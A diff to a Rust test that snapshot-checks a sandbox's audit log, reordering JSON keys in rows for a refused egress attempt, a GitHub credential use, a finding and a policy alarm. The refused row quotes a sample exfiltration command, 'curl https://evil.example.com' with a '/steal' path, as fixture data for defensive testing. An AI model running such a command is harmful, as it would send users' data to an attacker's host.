@@ -112,8 +112,8 @@ async fn refusals_credentials_findings_and_alarms_are_rows_and_ordinary_exchange
         .map(|row| format!("{} | {} | {} | {}", row.actor, row.action, row.subject, row.detail))
         .collect();
     insta::assert_snapshot!(told.join("\n"), @r#"
-    sandbox s_00000000000000000000000007 | egress.refused | evil.example.com:443 | {"cause":"curl https://evil.example.com","code":"not_allowed","method":"GET","owner":"ann","path":"/steal?[redacted]","phase":"implement","reason":"no rule of the organisation allows it","rule":"organisation","way":"connect"}
-    sandbox s_00000000000000000000000007 | credential.used | GITHUB | {"host":"api.github.com","method":"GET","owner":"ann","path":"/user","phase":"implement","port":443}
+    sandbox s_00000000000000000000000007 | egress.refused | evil.example.com:443 | {"way":"connect","method":"GET","path":"/steal?[redacted]","code":"not_allowed","rule":"organisation","reason":"no rule of the organisation allows it","cause":"curl https://evil.example.com","owner":"ann","phase":"implement"}
+    sandbox s_00000000000000000000000007 | credential.used | GITHUB | {"host":"api.github.com","port":443,"method":"GET","path":"/user","owner":"ann","phase":"implement"}
     sandbox s_00000000000000000000000007 | egress.finding | placeholder_elsewhere | {"detail":"x","owner":"ann","phase":"implement"}
     system | egress.alarm | the way out | {"reason":"policy.yaml:3: unknown bundle"}
     "#);
